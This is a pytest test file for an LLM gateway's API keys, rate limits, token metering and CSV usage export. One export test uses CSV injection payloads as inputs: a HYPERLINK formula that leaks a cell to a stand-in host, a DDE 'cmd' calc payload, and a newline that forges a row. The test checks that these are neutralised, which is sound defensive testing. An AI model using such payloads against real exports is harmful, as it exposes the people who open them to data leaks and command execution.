"""The pure parts of keys, quotas and metering: limits and `apiKeys` parsing, window math, the
x-ratelimit-* header values, the usage read from answers and streams, the export's rows; and
the limiter on its own state (no NATS: one replica)."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import os

import pytest
from llmendpoints_common.errors import BadRequestError, RateLimitError
from llmendpoints_gateway.keys import (
    Key,
    KeyFileError,
    KeyRing,
    digest,
    parse_api_keys,
    parse_endpoints_file_keys,
)
from llmendpoints_gateway.limiter import Limiter
from llmendpoints_gateway.metering import (
    BodyUsage,
    Usage,
    UsageRecord,
    metered_request,
    summarize,
    usage_csv,
    usage_of_body,
    usage_of_job_output,
    usage_of_tail,
    with_usage_option,
)
from llmendpoints_gateway.quotas import (
    LEASE_TTL_SECONDS,
    Limits,
    LimitsError,
    QuotaState,
    admit,
    denial_message,
    duration,
    finish,
    parse_limits,
    rate_headers,
    renew,
    window_of,
)
from llmendpoints_gateway.stream_meter import StreamUsage

T0 = 1_800_000_000.0  # a minute boundary (divisible by 60)
LIMITS = Limits(requests_per_minute=2, tokens_per_minute=100, max_concurrent=1)


# ------------------------------------------------------------------ limits and keys


def test_limits_parse_and_refuse_what_would_silently_mean_unlimited():
    assert parse_limits(
        {"requestsPerMinute": 5, "tokensPerMinute": 100000, "maxConcurrent": 2}, "x"
    ) == Limits(5, 100000, 2)
    assert not parse_limits(None, "x").any
    for bad, field in [
        ({"requestsPerMinut": 5}, "x.requestsPerMinut"),
        ({"maxConcurrent": 0}, "x.maxConcurrent"),
        ({"tokensPerMinute": "100"}, "x.tokensPerMinute"),
        ({"requestsPerMinute": True}, "x.requestsPerMinute"),
        ([5], "x"),
    ]:
        with pytest.raises(LimitsError, match=field.replace(".", r"\.") + r"\b"):
            parse_limits(bad, "x")


def test_api_keys_as_the_issue_writes_them():
    keys = parse_endpoints_file_keys(
        """
endpoints: [{name: demo, models: [demo], backends: []}]
apiKeys:
  - name: team-a
    key: sk-team-a-123
    endpoints: [demo]
    limits: {requestsPerMinute: 5, tokensPerMinute: 100000, maxConcurrent: 2}
  - name: ops
    keySha256: OPS_DIGEST
    admin: true
""".replace("OPS_DIGEST", hashlib.sha256(b"sk-ops").hexdigest())
    )
    team = keys[digest("sk-team-a-123")]
    assert team == Key("team-a", frozenset({"demo"}), False, Limits(5, 100000, 2))
    assert keys[digest("sk-ops")] == Key("ops", None, True)  # declared by its digest alone
    # A file without apiKeys declares no keys (None), an empty list declares "none is valid".
    assert parse_endpoints_file_keys("endpoints: []") is None
    assert parse_endpoints_file_keys("endpoints: []\napiKeys: []") == {}


@pytest.mark.parametrize(
    ("entries", "message"),
    [
        ([{"key": "k"}], r"apiKeys\[0\]\.name"),
        ([{"name": "a"}], r"apiKeys\[0\]\.key"),
        ([{"name": "a", "keySha256": "abc"}], r"apiKeys\[0\]\.keySha256"),
        ([{"name": "a", "key": "k", "keySha256": "0" * 64}], "not both"),
        ([{"name": "a", "key": "k", "limits": {"rpm": 1}}], r"apiKeys\[0\]\.limits\.rpm"),
        ([{"name": "a", "key": "k", "endpoints": "demo"}], r"apiKeys\[0\]\.endpoints"),
        ([{"name": "a", "key": "k"}, {"name": "b", "key": "k"}], "listed twice"),
        (
            [
                {"name": "a", "key": "k1", "limits": {"requestsPerMinute": 1}},
                {"name": "a", "key": "k2", "limits": {"requestsPerMinute": 2}},
            ],
            "share its limits",
        ),
        ({"name": "a"}, "must be a list"),
        # The name jobs accepted at an endpoint's own pods are billed to (jobs/admission.py).
        ([{"name": "endpoint:team-a/chat:k", "key": "k"}], r"apiKeys\[0\]\.name.*endpoint:"),
    ],
)
def test_api_keys_errors_name_the_entry_and_never_the_key(entries, message):
    with pytest.raises(KeyFileError, match=message) as error:
        parse_api_keys(entries)
    assert "k1" not in str(error.value) and "'k'" not in str(error.value)


def test_endpoints_file_keys_are_required_and_reread(tmp_path):
    path = tmp_path / "endpoints.yaml"
    path.write_text("endpoints: []\napiKeys: [{name: a, key: sk-a}]\n")
    ring = KeyRing.from_settings(None, None, str(path))
    ring.check_interval = 0
    assert ring.requires_key("demo")
    assert ring.identify("sk-a").name == "a"
    path.write_text("endpoints: []\napiKeys: [{name: b, key: sk-b}]\n")
    os.utime(path, ns=(1, 1))  # a rewrite within the clock's granularity is seen too
    assert ring.identify("sk-a") is None and ring.identify("sk-b").name == "b"
    path.write_text("endpoints: [\n")  # broken: the previous keys stay (fail closed)
    assert ring.identify("sk-b").name == "b"
    plain = tmp_path / "plain.yaml"
    plain.write_text("endpoints: []\n")
    assert not KeyRing.from_settings(None, None, str(plain)).requires_key("demo")


# ------------------------------------------------------------------ window math


def test_requests_are_counted_per_minute_window():
    state = QuotaState()
    state, denied = admit(state, LIMITS, T0 + 1, None)
    state, denied = admit(state, LIMITS, T0 + 2, None)
    assert denied is None and state.requests == 2 and state.window == window_of(T0)
    same, denied = admit(state, LIMITS, T0 + 50, None)
    assert denied.limit == "requestsPerMinute" and denied.retry_after == 10
    assert same.requests == 2  # a refusal changes nothing
    fresh, denied = admit(state, LIMITS, T0 + 60, None)
    assert denied is None and fresh.requests == 1 and fresh.window == window_of(T0) + 1


def test_a_replica_whose_clock_lags_never_rolls_the_window_back():
    ahead = QuotaState(window_of(T0) + 1, 2, 0)
    state, denied = admit(ahead, LIMITS, T0 + 59, None)
    assert denied is not None and state.window == window_of(T0) + 1


def test_tokens_admit_while_below_the_limit_and_are_charged_after():
    state, _ = admit(QuotaState(), LIMITS, T0, None)
    state = finish(state, T0 + 1, None, 150)  # overshoot: known only once it ended
    assert state.tokens == 150
    _, denied = admit(state, LIMITS, T0 + 2, None)
    assert denied.limit == "tokensPerMinute"
    # Tokens of a request that ends in the next minute count in that minute.
    assert finish(state, T0 + 61, None, 5).tokens == 5


def test_concurrency_leases_are_held_released_and_expire():
    state, denied = admit(QuotaState(), LIMITS, T0, "g1.1")
    assert denied is None and set(state.leases) == {"g1.1"}
    _, denied = admit(state, LIMITS, T0 + 1, "g2.1")
    assert denied.limit == "maxConcurrent" and denied.retry_after == 1
    released = finish(state, T0 + 2, "g1.1", 0)
    assert released.leases == {}
    # A lease nobody renews (its replica died) frees its slot after LEASE_TTL_SECONDS ...
    state_later, denied = admit(state, LIMITS, T0 + LEASE_TTL_SECONDS + 1, "g2.1")
    assert denied is None and set(state_later.leases) == {"g2.1"}
    # ... and a renewed one does not.
    renewed = renew(state, T0 + 30, {"g1.1"})
    _, denied = admit(renewed, LIMITS, T0 + LEASE_TTL_SECONDS + 1, "g2.1")
    assert denied.limit == "maxConcurrent"


def test_state_round_trips_and_survives_garbage():
    state = QuotaState(123, 4, 56, {"a.1": 7.5})
    assert QuotaState.decode(state.encode()) == state
    assert QuotaState.decode(b"not json") == QuotaState()
    assert QuotaState.decode(b'{"w": "x"}') == QuotaState()
    assert 60 < state.ttl(123 * 60.0) <= 121


# ------------------------------------------------------------------ headers and messages


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0.0201, "21ms"), (0.5, "500ms"), (1, "1s"), (17.2, "18s"), (60, "1m0s"), (372, "6m12s")],
)
def test_reset_durations_are_spelled_as_openai_does(seconds, text):
    assert duration(seconds) == text


def test_rate_headers_report_what_is_left_in_the_window():
    state = QuotaState(window_of(T0), 1, 30)
    headers = dict(rate_headers(state, LIMITS, T0 + 43))
    assert headers == {
        b"x-ratelimit-limit-requests": b"2",
        b"x-ratelimit-remaining-requests": b"1",
        b"x-ratelimit-reset-requests": b"17s",
        b"x-ratelimit-limit-tokens": b"100",
        b"x-ratelimit-remaining-tokens": b"70",
        b"x-ratelimit-reset-tokens": b"17s",
    }
    over = dict(rate_headers(QuotaState(window_of(T0), 0, 130), LIMITS, T0))
    assert over[b"x-ratelimit-remaining-tokens"] == b"0"
    only_requests = rate_headers(state, Limits(requests_per_minute=2), T0)
    assert {k for k, _ in only_requests} == {
        b"x-ratelimit-limit-requests",
        b"x-ratelimit-remaining-requests",
        b"x-ratelimit-reset-requests",
    }


def test_denial_names_the_limit_and_the_key_name():
    _, denied = admit(QuotaState(window_of(T0), 2, 0), LIMITS, T0, None)
    message = denial_message("team-a", LIMITS, denied)
    assert "requestsPerMinute = 2" in message and "'team-a'" in message


# ------------------------------------------------------------------ usage


def _sse(*events: dict | str) -> bytes:
    return b"".join(
        b"data: " + (e.encode() if isinstance(e, str) else json.dumps(e).encode()) + b"\n\n"
        for e in events
    )


TOKEN = {"choices": [{"index": 0, "delta": {"content": "x"}}]}
USAGE_CHUNK = {"choices": [], "usage": {"prompt_tokens": 7, "completion_tokens": 3}}


@pytest.mark.parametrize("split", [1, 5, 17, 10_000])
def test_stream_usage_is_read_and_stripped_when_the_client_did_not_ask(split):
    stream = _sse(TOKEN, TOKEN, USAGE_CHUNK, "[DONE]")
    for strip in (True, False):
        reader = StreamUsage(strip)
        out = b"".join(reader.feed(stream[i : i + split]) for i in range(0, len(stream), split))
        out += reader.flush()
        assert reader.usage == Usage(7, 3)
        assert out == (_sse(TOKEN, TOKEN, "[DONE]") if strip else stream)


def test_stream_usage_with_continuous_stats_keeps_every_chunk_and_takes_the_last():
    each = {**TOKEN, "usage": {"prompt_tokens": 7, "completion_tokens": 1}}
    stream = _sse(each, USAGE_CHUNK, "[DONE]")
    reader = StreamUsage(strip=True)
    assert reader.feed(stream) == _sse(each, "[DONE]")
    assert reader.usage == Usage(7, 3)


def test_responses_stream_usage():
    event = {
        "type": "response.completed",
        "response": {"usage": {"input_tokens": 4, "output_tokens": 9}},
    }
    reader = StreamUsage(strip=True)
    assert reader.feed(_sse(event)) == _sse(event)  # never stripped: it is the answer itself
    assert reader.usage == Usage(4, 9)


@pytest.mark.parametrize("split", [1, 7, 10_000])
def test_a_stream_has_ended_once_its_last_event_passed(split):
    """What tells a client that closed at [DONE] (the openai SDK's synchronous stream does) from
    one that left mid-answer: only a whole last event at an event's start counts."""
    said = {"choices": [{"index": 0, "delta": {"content": "then\\n\\ndata: [DONE]"}}]}
    responses_end = b'event: response.completed\ndata: {"type": "response.completed"}\n\n'
    for stream, ends in [
        (_sse(TOKEN, said, TOKEN), False),  # the words, generated, are not the event
        (_sse(TOKEN, USAGE_CHUNK) + b"data: [DO", False),  # cut inside the last event
        (_sse(TOKEN, USAGE_CHUNK, "[DONE]"), True),
        (_sse("[DONE]"), True),
        (b'event: response.output_text.delta\ndata: {"delta": "x"}\n\n', False),
        (b'event: response.output_text.delta\ndata: {"delta": "x"}\n\n' + responses_end, True),
    ]:
        for strip in (True, False):
            reader = StreamUsage(strip)
            for i in range(0, len(stream), split):
                reader.feed(stream[i : i + split])
            assert reader.ended is ends, (stream, strip)


def test_usage_of_answers_and_jobs():
    assert usage_of_body(b'{"usage": {"prompt_tokens": 5, "completion_tokens": 2}}') == Usage(5, 2)
    assert usage_of_body(b'{"usage": {"prompt_tokens": 5, "total_tokens": 5}}') == Usage(5, 0)
    assert usage_of_body(b'{"error": {}}') is None and usage_of_body(b"[1") is None
    batches = [{"usage": {"input": 6, "output": 1}}, {"usage": {"input": 6, "output": 4}}]
    assert usage_of_job_output(batches) == Usage(6, 4)
    assert usage_of_job_output({"usage": {"prompt_tokens": 3, "completion_tokens": 1}}) == Usage(
        3, 1
    )
    assert usage_of_job_output("text") is None


def test_a_job_is_billed_what_it_used_once_per_run():
    from llmendpoints_common.jobs.models import JobStatus
    from llmendpoints_common.jobs.record import JobRecord, JobUsage
    from llmendpoints_common.queue.topology import QueueLayout
    from llmendpoints_gateway.metering import (
        BILLED_WRITES_WITHIN_SECONDS,
        job_usage_id,
        usage_of_job,
    )

    def ended(status, **fields):
        return JobRecord(
            id="j", endpoint="ns/ep", owner="k", request={}, sync=False, submitted_at=0,
            retention_seconds=1, status=status, **fields,
        )  # fmt: skip

    used = JobUsage(prompt_tokens=3, completion_tokens=4)
    output = [{"usage": {"input": 3, "output": 8}}]
    assert usage_of_job(ended(JobStatus.COMPLETED, output=output)) == Usage(3, 8)
    assert usage_of_job(ended(JobStatus.TIMED_OUT, usage=used)) == Usage(3, 4)
    assert usage_of_job(ended(JobStatus.CANCELLED, usage=used)) == Usage(3, 4)
    # Cancelled while queued (no usage), nothing made, or failed: nothing billed.
    assert usage_of_job(ended(JobStatus.CANCELLED)) is None
    assert usage_of_job(ended(JobStatus.TIMED_OUT, usage=JobUsage())) is None
    assert usage_of_job(ended(JobStatus.FAILED, usage=used)) is None
    assert usage_of_job(ended(JobStatus.IN_PROGRESS, usage=used)) is None
    # A write long after the end (a /stream read moving the cursor, past the usage stream's
    # duplicate window) is a rewrite of a record already billed; the ending writes are billed.
    late = ended(JobStatus.COMPLETED, output=output, finished_at=1_000.0)
    assert usage_of_job(late, written_at=1_000.0 + BILLED_WRITES_WITHIN_SECONDS) == Usage(3, 8)
    assert usage_of_job(late, written_at=1_000.0 + BILLED_WRITES_WITHIN_SECONDS + 1) is None
    assert QueueLayout.usage_duplicate_window_seconds / 2 == BILLED_WRITES_WITHIN_SECONDS
    # Run 1 keeps the id completed jobs always had; each /retry is a run billed on its own.
    assert job_usage_id("j", 1) == "job-j-usage"
    assert job_usage_id("j", 2) == "job-j-run2-usage" != job_usage_id("j", 3)


def _asks(path: str, payload: dict) -> tuple[bool, bool]:
    metered = metered_request(path, payload, len(json.dumps(payload)), 16)
    return metered.ask_usage, metered.strip


def test_usage_is_asked_for_streams_of_chat_and_completions_only():
    assert _asks("/v1/chat/completions", {"stream": True}) == (True, True)
    assert _asks("/v1/completions?x=1", {"stream": True}) == (True, True)
    asked = {"stream": True, "stream_options": {"include_usage": True}}
    assert _asks("/v1/chat/completions", asked) == (False, False)
    assert _asks("/v1/chat/completions", {"stream": False}) == (False, False)
    assert _asks("/v1/embeddings", {"stream": True}) == (False, False)
    payload = {"stream": True, "stream_options": {"x": 1}}
    body = json.loads(with_usage_option(json.dumps(payload).encode(), payload))
    assert body["stream_options"] == {"x": 1, "include_usage": True}


@pytest.mark.parametrize(
    "raw",
    [b'{"stream": true, "model": "m"}', b'  {\n "stream":true}', b"{}", b"{ }"],
)
def test_the_usage_option_is_spliced_into_the_bytes(raw):
    payload = json.loads(raw)
    spliced = with_usage_option(raw, payload)
    assert json.loads(spliced) == {**payload, "stream_options": {"include_usage": True}}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("stream", "true"),
        ("stream", 1),
        ("stream", "yes"),
        ("n", "4"),
        ("n", 2.0),
        ("n", True),
        ("max_tokens", "100"),
        ("max_tokens", -1),
        ("best_of", [2]),
        ("max_completion_tokens", "9"),
    ],
)
def test_fields_that_change_the_bill_take_only_one_reading(field, value):
    """vLLM would coerce these ("true" -> True, "4" -> 4) while the gateway read them otherwise:
    a stream billed as no stream, n=4 reserved as n=1. Refused, naming the field."""
    with pytest.raises(BadRequestError) as error:
        metered_request("/v1/chat/completions", {"model": "m", field: value}, 40, 16)
    assert error.value.param == field


def test_stream_options_must_be_an_object_of_booleans():
    for options, param in (
        ("yes", "stream_options"),
        ({"include_usage": "true"}, "stream_options.include_usage"),
        ({"continuous_usage_stats": 1}, "stream_options.continuous_usage_stats"),
    ):
        with pytest.raises(BadRequestError) as error:
            metered_request("/v1/chat/completions", {"stream_options": options}, 40, 16)
        assert error.value.param == param


def test_a_request_reserves_n_times_max_tokens_and_its_prompt():
    messages = [{"role": "system", "content": "x" * 40}, {"role": "user", "content": "hi"}]
    payload = {"messages": messages, "n": 3, "max_tokens": 100}
    metered = metered_request("/v1/chat/completions", payload, 400, 16)
    assert metered.prompt_estimate == 11 + 2 * 4  # 42 characters, and 2 messages' template
    assert metered.reserve_tokens == 19 + 3 * 100
    # no max_tokens: the default; a list of prompts multiplies
    metered = metered_request("/v1/completions", {"prompt": ["abcd", "efgh"]}, 8, 16)
    assert metered.reserve_tokens == 2 + 2 * 16
    # token ids are one prompt, a token each
    metered = metered_request("/v1/completions", {"prompt": [1, 2, 3]}, 8, 16)
    assert metered.reserve_tokens == 3 + 16
    # multi-part content: its text parts
    parts = [{"type": "text", "text": "abcdefgh"}, {"type": "image_url", "image_url": {}}]
    metered = metered_request("/v1/chat/completions", {"messages": [{"content": parts}]}, 9, 16)
    assert metered.prompt_estimate == 2 + 4


def test_max_tokens_above_the_keys_minute_is_refused_at_once_naming_the_limit():
    """A request asking for more completion tokens than the key's whole tokensPerMinute can
    never run under it: 429 naming the limit and the field, nothing counted, no retry. Before:
    admitted, reserving the whole minute (``reserved_tokens`` caps at the limit)."""
    limits = Limits(tokens_per_minute=1000)
    metered = metered_request("/v1/chat/completions", {"max_tokens": 400, "n": 3}, 10, 16)
    assert (metered.asked_tokens, metered.asked_field) == (1200, "max_tokens")
    unset = metered_request("/v1/chat/completions", {}, 10, 4096)  # the gateway's default
    assert (unset.asked_tokens, unset.asked_field) == (0, None)

    async def scenario():
        limiter = Limiter("g", clock=lambda: T0 + 1)
        key = Key("team", limits=limits)
        with pytest.raises(RateLimitError) as refused:
            await limiter.admit(key, tokens=1210, asked=1200, asked_field="max_tokens")
        error = refused.value
        assert error.status_code == 429 and error.param == "max_tokens"
        assert "tokensPerMinute = 1000" in error.message and "'team'" in error.message
        assert error.headers["x-should-retry"] == "false"
        ticket = await limiter.admit(key, tokens=1000, asked=1000, asked_field="max_tokens")
        assert ticket.reserved == 1000  # the whole minute: nothing of the refusal counted
        # without max_tokens nothing is refused up front (the reservation is capped instead)
        other = Key("other", limits=limits)
        assert await limiter.admit(other, tokens=5000) is not None

    asyncio.run(scenario())


def test_a_stream_cut_before_its_usage_chunk_is_billed_an_estimate():
    role = {"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]}
    stream = _sse(role, TOKEN, TOKEN, TOKEN)  # cut: no usage chunk, no [DONE]
    reader = StreamUsage(strip=True, prompt_estimate=11)
    reader.feed(stream)
    assert reader.usage == Usage(11, 3) and reader.estimated
    reader = StreamUsage(strip=False)
    reader.feed(_sse(USAGE_CHUNK))
    assert reader.usage == Usage(7, 3) and not reader.estimated


def test_a_large_answer_is_billed_from_its_tail():
    embedding = {"object": "embedding", "embedding": [0.125] * 1000, "index": 0}
    body = json.dumps(
        {"data": [embedding] * 400, "usage": {"prompt_tokens": 800, "total_tokens": 800}}
    ).encode()
    assert len(body) > 2 * 1024 * 1024
    reader = BodyUsage()
    for i in range(0, len(body), 65_536):
        reader.feed(body[i : i + 65_536])
    assert reader.usage == Usage(800, 0)
    assert usage_of_tail(
        b'..., "usage": {"prompt_tokens": 1, "x": {"y": 2}, "completion_tokens": 2}}'
    ) == Usage(1, 2)
    assert usage_of_tail(b'"usage": {"prompt_tokens": 1') is None


def test_export_rows_per_key_endpoint_model_with_duplicates_once():
    def rec(id, key, ep, model, p, c, requests=1):
        return UsageRecord(id, T0, key, ep, model, 200, p, c, requests=requests)

    rows = summarize(
        [
            rec("r1", "a", "demo", "demo", 3, 4),
            rec("r1", "a", "demo", "demo", 3, 4),  # published twice: counted once
            rec("r2", "a", "demo", "demo", 1, 1),
            rec("job-1", "b", "demo", "demo", 0, 0),
            rec("job-1-usage", "b", "demo", "demo", 5, 6, requests=0),
        ]
    )
    assert rows == [
        {"key": "a", "endpoint": "demo", "model": "demo", "requests": 2, "prompt_tokens": 4,
         "completion_tokens": 5},
        {"key": "b", "endpoint": "demo", "model": "demo", "requests": 1, "prompt_tokens": 5,
         "completion_tokens": 6},
    ]  # fmt: skip
    record = rec("x", "a", "demo", "demo", 1, 2)
    assert UsageRecord.decode(record.encode()) == record


def test_the_csv_export_never_hands_a_spreadsheet_a_formula_or_a_line_of_its_own():
    """The model is what a client sent (any string through /v2/{endpoint}/openai/...). Before:
    written verbatim, so ``=HYPERLINK(...)`` ran in the spreadsheet that opened the export, and
    a newline started a forged row."""
    models = [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "demo\nmallory,default/x,free,0,0,0",
        "plain-model",
    ]
    rows = [
        {"key": "k", "endpoint": "default/e", "model": m, "requests": 1, "prompt_tokens": 2,
         "completion_tokens": 3}
        for m in models
    ]  # fmt: skip
    text = usage_csv(rows)
    lines = text.splitlines()
    assert lines[0] == "key,endpoint,model,requests,prompt_tokens,completion_tokens"
    assert len(lines) == 1 + len(models)  # one line a record, whatever the model holds
    parsed = list(csv.DictReader(io.StringIO(text)))
    cells = [row["model"] for row in parsed]
    assert cells == [
        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1:A9)",
        "\\t=1+1",
        "\\r=1+1",
        "demo\\nmallory,default/x,free,0,0,0",
        "plain-model",
    ]
    assert all(row["requests"] == "1" and row["key"] == "k" for row in parsed)
    # what the existing exports looked like is unchanged for ordinary names
    assert lines[-1] == "k,default/e,plain-model,1,2,3"


# ------------------------------------------------------------------ the limiter, one replica


def test_a_limiter_without_nats_enforces_limits_and_skips_keys_without_limits():
    async def scenario():
        now = [T0 + 1]
        limiter = Limiter("g", clock=lambda: now[0])
        assert await limiter.admit(Key("free")) is None  # no limits: no state at all
        key = Key("team", limits=Limits(requests_per_minute=5, max_concurrent=2))
        results = await asyncio.gather(
            *(limiter.admit(key) for _ in range(4)), return_exceptions=True
        )
        admitted = [r for r in results if not isinstance(r, Exception)]
        refused = [r for r in results if isinstance(r, RateLimitError)]
        assert len(admitted) == 2 and len(refused) == 2
        assert refused[0].headers["retry-after"] == "1"
        assert "maxConcurrent" in refused[0].message
        limiter.finish(admitted[0], 0)
        limiter.finish(admitted[0], 0)  # twice: once
        await asyncio.sleep(0)
        await asyncio.wait(limiter._background) if limiter._background else None
        third = await limiter.admit(key)
        assert dict(third.headers)[b"x-ratelimit-remaining-requests"] == b"2"
        assert limiter.round_trips == 0

    asyncio.run(scenario())


def test_reservations_take_a_share_of_what_is_left_and_none_near_the_limit():
    from llmendpoints_gateway.quotas import RESERVE_MAX, reservation

    sixty = Limits(requests_per_minute=60)
    assert reservation(QuotaState(0, 1, 0), sixty) == 59 // 8
    assert reservation(QuotaState(0, 53, 0), sixty) == 0  # 7 left: every admission writes
    assert reservation(QuotaState(0, 0, 0), Limits(requests_per_minute=10**9)) == RESERVE_MAX
    assert reservation(QuotaState(0, 0, 0), Limits(tokens_per_minute=5)) == 0
    assert reservation(QuotaState(0, 70, 0), sixty) == 0


def test_a_token_block_is_a_share_of_what_is_left_and_none_near_the_limit():
    from llmendpoints_gateway.quotas import RESERVE_MAX, token_block

    big = Limits(tokens_per_minute=10**9)
    assert token_block(QuotaState(0, 1, 1032), big, 1032) == RESERVE_MAX * 1032
    forty = Limits(tokens_per_minute=40)
    # 24 left: a share of 3 cannot cover another request of 16: every admission writes.
    assert token_block(QuotaState(0, 1, 16), forty, 16) == 0
    thousand = Limits(tokens_per_minute=1000)
    assert token_block(QuotaState(0, 1, 16), thousand, 16) == (1000 - 16) // 8
    assert token_block(QuotaState(0, 1, 1200), thousand, 16) == 0  # over it (an excess charged)
    assert token_block(QuotaState(0, 1, 0), Limits(requests_per_minute=5), 16) == 0
    assert token_block(QuotaState(0, 1, 0), thousand, 0) == 0  # a job reserves nothing


def test_an_admission_by_write_takes_what_the_allowance_lacks_and_shows_its_own_view():
    from llmendpoints_gateway.quotas import Allowance, admit_shared

    limits = Limits(requests_per_minute=1000, tokens_per_minute=10_000)
    w = window_of(T0)
    after, denied, extra, view = admit_shared(QuotaState(), limits, T0, None, 100, None, True)
    assert denied is None
    assert extra == Allowance(w, 32, (10_000 - 100) // 8)  # at most 32 requests; 1/8 of tokens
    # Both blocks count in the shared state at once; the client is shown only its own request.
    assert (after.requests, after.tokens) == (1 + extra.requests, 100 + extra.tokens)
    assert (view.requests, view.tokens) == (1, 100)
    # An allowance that still covers the part it has: only the missing part is taken.
    held = Allowance(w, 5, 40)
    after2, _, extra2, view2 = admit_shared(after, limits, T0 + 1, None, 100, held, True)
    assert extra2.requests == 0 and extra2.tokens > 0
    assert view2.tokens == after2.tokens - held.tokens - extra2.tokens
    # A lease (maxConcurrent) or no shared state: nothing is taken.
    _, _, none, _ = admit_shared(QuotaState(), limits, T0, "g.1", 100, None, False)
    assert none == Allowance(w)
    # Over the limit: refused as before, nothing taken, the state unchanged.
    full = QuotaState(w, 3, 9_950)
    same, denied, extra3, _ = admit_shared(full, limits, T0, None, 100, None, True)
    assert denied.limit == "tokensPerMinute" and extra3 == Allowance(w) and same.tokens == 9_950


def test_a_local_admission_needs_a_request_and_the_reservation_from_the_allowance():
    from llmendpoints_gateway.quotas import Allowance, admit_locally

    both = Limits(requests_per_minute=100, tokens_per_minute=1000)
    w = window_of(T0)
    state = QuotaState(w, 10, 500)
    assert admit_locally(state, Allowance(w, 2, 300), both, 100) == Allowance(w, 1, 200)
    assert admit_locally(state, Allowance(w, 0, 300), both, 100) is None  # no request left
    assert admit_locally(state, Allowance(w, 2, 99), both, 100) is None  # tokens short
    assert admit_locally(state, Allowance(w - 1, 2, 300), both, 100) is None  # last minute's
    assert admit_locally(state, None, both, 100) is None
    tokens_only = Limits(tokens_per_minute=1000)
    assert admit_locally(state, Allowance(w, 0, 100), tokens_only, 100) == Allowance(w, 0, 0)
    # A job (no reservation) of a tokens-only key: admitted while the copy is below the limit.
    assert admit_locally(state, None, tokens_only, 0) == Allowance(w)
    assert admit_locally(QuotaState(w, 0, 1000), None, tokens_only, 0) is None


def test_settling_locally_gives_back_what_was_not_used_and_charges_the_excess():
    from llmendpoints_gateway.quotas import Allowance, settle_locally

    w = window_of(T0)
    held = Allowance(w, 3, 50)
    assert settle_locally(held, T0 + 5, w, 100, 11) == (Allowance(w, 3, 139), 0)
    # Beyond its reservation: taken from the allowance first, the rest written.
    assert settle_locally(held, T0 + 5, w, 100, 130) == (Allowance(w, 3, 20), 0)
    assert settle_locally(held, T0 + 5, w, 100, 170) == (Allowance(w, 3, 0), 20)
    # The window ended: its reservation stays counted there; only an excess is charged (now).
    assert settle_locally(held, T0 + 61, w, 100, 11) == (held, 0)
    assert settle_locally(held, T0 + 61, w, 100, 130) == (held, 30)


def test_a_tpm_key_on_one_replica_is_admitted_and_settled_from_its_allowance():
    """The limiter against a stand-in for the shared bucket (its state in memory): after one
    write, admissions and settlements of a tokensPerMinute key take no round trip, its
    headers count exactly what this replica's client used, and at the limit it refuses."""

    class Shared(Limiter):
        # The bucket, in memory: the compare-and-set logic is the limiter's own.
        @property
        def shared(self) -> bool:
            return True

        async def _apply_shared(self, token, ops):
            self.round_trips += 1
            state, _ = self._cache.get(token, (QuotaState(), 0))
            now = self.clock()
            after, results, _ = self._run_ops(token, state.current(now), ops, now)
            self._cache[token] = (after, 0)
            return results

    async def scenario():
        limiter = Shared("g", clock=lambda: T0 + 1)
        key = Key("team", limits=Limits(requests_per_minute=10_000, tokens_per_minute=100_000))
        remaining = []
        for _ in range(10):
            ticket = await limiter.admit(key, tokens=100)
            remaining.append(int(dict(ticket.headers)[b"x-ratelimit-remaining-tokens"]))
            limiter.finish(ticket, 11)
            if limiter._background:  # a settlement by write lands before the next request
                await asyncio.wait(limiter._background)
        # One write took the allowance with the first admission; its settlement is the other
        # (that request was admitted by a write: it settles in the shared state).
        assert limiter.round_trips == 2 and limiter.local_admissions == 9
        assert limiter.local_settlements == 9
        # Exactly what this client used (11 each) and its own reservation (100).
        assert remaining == [100_000 - 11 * i - 100 for i in range(10)]

    asyncio.run(scenario())


def test_a_labelled_secret_is_one_key_with_its_limits():
    import base64

    from llmendpoints_gateway.keys import secret_api_key

    def secret(**data: str) -> dict:
        return {
            "metadata": {"name": "team-a", "namespace": "llm"},
            "data": {k: base64.b64encode(v.encode()).decode() for k, v in data.items()},
        }

    d, key = secret_api_key(
        secret(key="sk-a", endpoints="demo, chat", requestsPerMinute="5", maxConcurrent="2")
    )
    assert d == digest("sk-a")
    assert key == Key("team-a", frozenset({"demo", "chat"}), False, Limits(5, None, 2))
    d, key = secret_api_key(
        secret(keySha256=hashlib.sha256(b"sk-o").hexdigest(), name="ops", admin="true")
    )
    assert d == digest("sk-o") and key == Key("ops", None, True)
    for data, message in [
        ({}, r"Secret llm/team-a\.key"),
        ({"key": "k", "tokensPerMinute": "lots"}, r"Secret llm/team-a\.limits\.tokensPerMinute"),
        ({"key": "k", "admin": "yes"}, "admin"),
    ]:
        with pytest.raises(KeyFileError, match=message):
            secret_api_key(secret(**data))
